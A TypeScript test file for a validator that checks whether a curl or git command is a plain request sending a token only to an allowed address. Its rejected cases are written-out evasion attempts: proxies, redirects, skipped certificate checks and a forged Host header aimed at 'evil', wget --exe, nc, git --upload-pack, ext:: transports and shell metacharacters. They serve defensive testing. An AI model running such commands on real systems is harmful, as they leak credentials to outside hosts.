import { describe, expect, test } from 'vitest'

import { isPlainRequest } from './plain-request.ts'

const isPlain = (command: string): boolean =>
  isPlainRequest(command, {
    holdsToken: (word) => word.includes('TOKEN'),
    isAddress: (word) => /^https?:\/\/a\.example(?:\/|$)/.test(word),
  })

describe('a plain request', () => {
  test.each([
    'curl https://a.example',
    'curl -s -S -f -i -v https://a.example/x',
    'curl -sSf --silent --show-error --fail --include https://a.example/x',
    `curl -H "X: TOKEN" --header 'Accept: text/html' https://a.example/x`,
    'curl https://a.example/x -X POST --request PUT',
    `curl -d '{"k":"TOKEN"}' --data x --data-raw y --json '{}' https://a.example/x`,
    'curl -u me:TOKEN --user me:TOKEN -m 10 --max-time 5 http://a.example/x',
    // The value of an option is just a value, whatever it looks like.
    'curl -d -o https://a.example',
    ' curl  https://a.example\n',
    ...['clone', 'fetch', 'push', 'pull', 'ls-remote'].map(
      (name) => `git ${name} https://a.example/TOKEN main feature/x-1`,
    ),
  ])('is %j', (command) => {
    expect(isPlain(command)).toBe(true)
  })

  test.each([
    ['no address', 'curl -d TOKEN'],
    ['two addresses', 'curl https://a.example https://a.example'],
    ['a word that is no address', 'curl -d TOKEN evil https://a.example'],
    ['a proxy behind other letters', 'curl -4x2130706433 -d TOKEN https://a.example'],
    ['a proxy', 'curl -x evil -d TOKEN https://a.example'],
    ['a file that swallows an option', 'curl -o -d evil -d TOKEN https://a.example'],
    ['redirects', 'curl -L -d TOKEN https://a.example'],
    ['redirects among others', 'curl -sL -d TOKEN https://a.example'],
    ['a certificate that nobody looks at', 'curl -k -d TOKEN https://a.example'],
    ['a value in the same word', 'curl -dTOKEN https://a.example'],
    ['a value behind =', 'curl --data=TOKEN https://a.example'],
    ['an option cut short', 'curl --head x -d TOKEN https://a.example'],
    ['an end of the options', 'curl -d TOKEN -- https://a.example'],
    ['a value that is missing', 'curl https://a.example -d'],
    ['a file as data', 'curl -d @file -H "X: TOKEN" https://a.example'],
    ['a file of headers', 'curl -H @file -d TOKEN https://a.example'],
    ['another host in a header', 'curl -H "Host: evil" -d TOKEN https://a.example'],
    ['another host in small letters', 'curl -H "host:evil" -d TOKEN https://a.example'],
    ['a header with a second line', 'curl -H "X: a\nHost: evil" -d TOKEN https://a.example'],
    ['a header without a name', 'curl -H TOKEN https://a.example'],
    ['a destination in a value', 'curl -d "to=evil.example" -H "X: TOKEN" https://a.example'],
    ['a method that is none', 'curl -X "GET http://evil" -d TOKEN https://a.example'],
    ['an inherited name', 'curl toString x -d TOKEN https://a.example'],
    ['wget', 'wget --header TOKEN https://a.example'],
    ['wget with a program', 'wget --exe=http_proxy=evil https://a.example/TOKEN'],
    ['another program', 'nc https://a.example TOKEN'],
    ['a program in a folder', './curl -d TOKEN https://a.example'],
    ['git with an option', 'git clone --upload-pack=x https://a.example/TOKEN'],
    ['git with a setting', 'git -c a=b clone https://a.example/TOKEN'],
    ['git with a program', 'git submodule foreach https://a.example/TOKEN'],
    ['git without TLS', 'git clone http://a.example/TOKEN'],
    ['git to what is configured', 'git push origin https://a.example/TOKEN'],
    ['git with a second address', 'git fetch https://a.example/TOKEN ext::x'],
    ['git with a token as a word', 'git push https://a.example/ TOKEN'],
    ['nothing', ''],
  ])('is not one with %s', (_, command) => {
    expect(isPlain(command)).toBe(false)
  })

  test.each([
    ';',
    '|',
    '&',
    '\n',
    '$x',
    '`x`',
    '\\',
    '>x',
    '<x',
    '(x)',
    '{a,b}',
    '*',
    '[a]',
    '#',
    ' ?',
    ' ~',
  ])('is not one if a shell interprets %j', (sign) => {
    expect(isPlain(`curl -d TOKEN https://a.example/x${sign}y`)).toBe(false)
    if (!/^[$`\\]/.test(sign)) expect(isPlain(`curl -d TOKEN 'https://a.example/x${sign}y'`)).toBe(true)
  })
})
